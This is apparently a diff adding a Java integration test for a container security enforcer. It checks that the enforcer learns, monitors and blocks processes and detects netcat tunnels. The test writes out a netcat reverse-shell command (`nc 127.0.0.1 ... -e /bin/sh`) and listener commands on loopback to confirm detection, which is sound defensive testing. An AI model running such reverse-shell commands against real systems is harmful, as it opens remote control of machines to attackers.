@@ -1,0 +1,182 @@
+package dev.bulwark.enforcer;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import dev.bulwark.enforcer.policy.Mode;
+import dev.bulwark.enforcer.policy.ProcessRule;
+import dev.bulwark.enforcer.testing.RuncContainer;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Optional;
+import java.util.function.Predicate;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * The enforcer against real runc containers: it learns a profile in Discover, reports exactly what is outside it
+ * in Monitor, refuses new executables before they run and kills unknown processes in Protect, and reports
+ * network tools, reverse shells and escalation to root in every mode.
+ */
+class EnforcerIT {
+
+    private static final ObjectMapper JSON = new ObjectMapper();
+
+    @TempDir
+    Path dir;
+
+    Path events;
+    RuncContainer container;
+    Enforcer enforcer;
+    String group;
+
+    @BeforeEach
+    void start() throws IOException {
+        RuncContainer.assumeAvailable();
+        container = RuncContainer.builder(dir.resolve("bundle")).args("sleep", "600")
+                .applets("sh", "sleep", "cat", "wc", "od", "cp", "nc", "echo", "true")
+                .file("tmp/.keep", "").config(EnforcerIT::hostNetwork).start();
+        group = "nv." + container.id();
+        Path policy = Files.writeString(dir.resolve("policy.yaml"), """
+                groups:
+                - name: %s
+                  mode: Discover
+                  baseline: basic
+                """.formatted(group));
+        events = dir.resolve("events.jsonl");
+        enforcer = Enforcer.start(new Enforcer.Settings(Optional.of(policy), dir.resolve("data"), Mode.Discover,
+                Optional.of(events), 1000, "test-node"), Optional.empty());
+    }
+
+    /** The container shares the host's network namespace, whose loopback is up, for the reverse shell. */
+    private static void hostNetwork(com.fasterxml.jackson.databind.node.ObjectNode spec) {
+        var namespaces = (com.fasterxml.jackson.databind.node.ArrayNode) spec.path("linux").path("namespaces");
+        for (int i = namespaces.size() - 1; i >= 0; i--) {
+            if (namespaces.get(i).path("type").asText().equals("network")) {
+                namespaces.remove(i);
+            }
+        }
+    }
+
+    @AfterEach
+    void stop() throws IOException {
+        if (enforcer != null) {
+            enforcer.close();
+        }
+        if (container != null) {
+            container.close();
+        }
+    }
+
+    private List<JsonNode> incidents() throws IOException {
+        List<JsonNode> out = new ArrayList<>();
+        if (Files.exists(events)) {
+            for (String line : Files.readAllLines(events)) {
+                out.add(JSON.readTree(line));
+            }
+        }
+        return out;
+    }
+
+    /** Waits (up to 5 s) for an incident the test expects, and returns it. */
+    private JsonNode awaitIncident(Predicate<JsonNode> wanted) throws Exception {
+        long deadline = System.nanoTime() + 5_000_000_000L;
+        while (System.nanoTime() < deadline) {
+            for (JsonNode e : incidents()) {
+                if (wanted.test(e)) {
+                    return e;
+                }
+            }
+            Thread.sleep(20);
+        }
+        throw new AssertionError("no such incident; got %s; enforcer counters %s; policy %s".formatted(incidents(),
+                enforcer.counters(), enforcer.policies().of(group)));
+    }
+
+    private static Predicate<JsonNode> named(String name, String process) {
+        return e -> e.path("name").asText().equals(name) && e.path("proc_name").asText().equals(process);
+    }
+
+    /** Lets the enforcer catch up with what the container did, through a marker exec it must also see. */
+    private void settle() throws Exception {
+        Thread.sleep(300);
+    }
+
+    @Test
+    void discoverLearnsMonitorReportsProtectRefusesAndKills() throws Exception {
+        container.exec("sh", "-c", "sleep 0.1 | cat; sleep 0.1 | wc").requireSuccess();
+        settle();
+        List<String> learned = enforcer.policies().of(group).process().stream().map(ProcessRule::name).toList();
+        assertThat(learned).contains("sh", "sleep", "cat", "wc");
+        assertThat(enforcer.policies().of(group).process()).allMatch(r -> r.cfgType().equals(ProcessRule.LEARNED)
+                && r.path().equals("/bin/busybox"));
+        assertThat(incidents()).as("nothing to report while learning").isEmpty();
+
+        enforcer.setMode(group, Mode.Monitor);
+        container.exec("sh", "-c", "sleep 0.1 | cat; sleep 0.1 | od").requireSuccess();
+        JsonNode violation = awaitIncident(named("Process.Profile.Violation", "od"));
+        assertThat(violation.path("action").asText()).isEqualTo("violate");
+        assertThat(violation.path("group").asText()).isEqualTo(group);
+        assertThat(violation.path("workload_id").asText()).isEqualTo(container.id());
+        assertThat(violation.path("proc_path").asText()).isEqualTo("/bin/busybox");
+        assertThat(violation.path("proc_parent_name").asText()).isEqualTo("sh");
+        settle();
+        assertThat(incidents()).as("exactly the one process outside the profile").hasSize(1);
+
+        container.exec("cp", "/bin/busybox", "/tmp/echo").requireSuccess();
+        enforcer.setMode(group, Mode.Protect);
+        RuncContainer.Result refused = container.exec("sh", "-c", "/tmp/echo hi");
+        assertThat(refused.exitCode()).isEqualTo(126);
+        assertThat(refused.stderr()).contains("Operation not permitted");
+        JsonNode denied = awaitIncident(e -> e.path("proc_path").asText().equals("/tmp/echo"));
+        assertThat(denied.path("name").asText()).isEqualTo("Process.Profile.Violation");
+        assertThat(denied.path("action").asText()).isEqualTo("deny");
+
+        assertThat(container.exec("cat", "/proc/self/comm").requireSuccess().stdout()).contains("cat");
+        RuncContainer.Result killed = container.exec("sh", "-c", "sleep 2 | od; echo still-here");
+        assertThat(killed.stdout()).doesNotContain("0000000").contains("still-here");
+        JsonNode kill = awaitIncident(e -> named("Process.Profile.Violation", "od").test(e)
+                && e.path("action").asText().equals("deny"));
+        assertThat(kill.path("level").asText()).isEqualTo("Critical");
+    }
+
+    @Test
+    void networkToolsAndReverseShellsAreReportedInEveryModeAndNeverLearned() throws Exception {
+        int port = 20000 + new java.util.Random().nextInt(20000);
+        container.exec("sh", "-c", "nc -l -p %d & sleep 0.5; kill $!".formatted(port + 2));
+        JsonNode tunnel = awaitIncident(named("Container.Tunnel.Detected", "nc"));
+        assertThat(tunnel.path("action").asText()).isEqualTo("violate");
+        assertThat(enforcer.policies().of(group).process()).noneMatch(r -> r.name().equals("nc"));
+
+        enforcer.setMode(group, Mode.Monitor);
+        container.exec("sh", "-c", "sleep 2 | nc -l -p %d > /dev/null & sleep 0.3; nc 127.0.0.1 %d -e /bin/sh; true"
+                .formatted(port, port));
+        JsonNode shell = awaitIncident(e -> e.path("name").asText().equals("Container.Tunnel.Detected")
+                && e.path("message").asText().startsWith("reverse shell"));
+        assertThat(shell.path("proc_name").asText()).isEqualTo("sh");
+
+        enforcer.setMode(group, Mode.Protect);
+        RuncContainer.Result stopped = container.exec("sh", "-c", ("nc -l -p %d & sleep 1; kill $! 2>/dev/null;"
+                + " echo after").formatted(port + 1));
+        assertThat(stopped.stdout()).contains("after");
+        assertThat(awaitIncident(e -> named("Container.Tunnel.Detected", "nc").test(e)
+                && e.path("action").asText().equals("deny"))).isNotNull();
+    }
+
+    @Test
+    void stoppingTheEnforcerLeavesTheContainerWorking() throws Exception {
+        container.exec("sh", "-c", "sleep 0.1; cp /bin/busybox /tmp/echo").requireSuccess();
+        settle();
+        enforcer.setMode(group, Mode.Protect);
+        assertThat(container.exec("sh", "-c", "/tmp/echo true").exitCode()).isEqualTo(126);
+        enforcer.close();
+        enforcer = null;
+        assertThat(container.exec("/tmp/echo", "free").requireSuccess().stdout()).contains("free");
+    }
+}
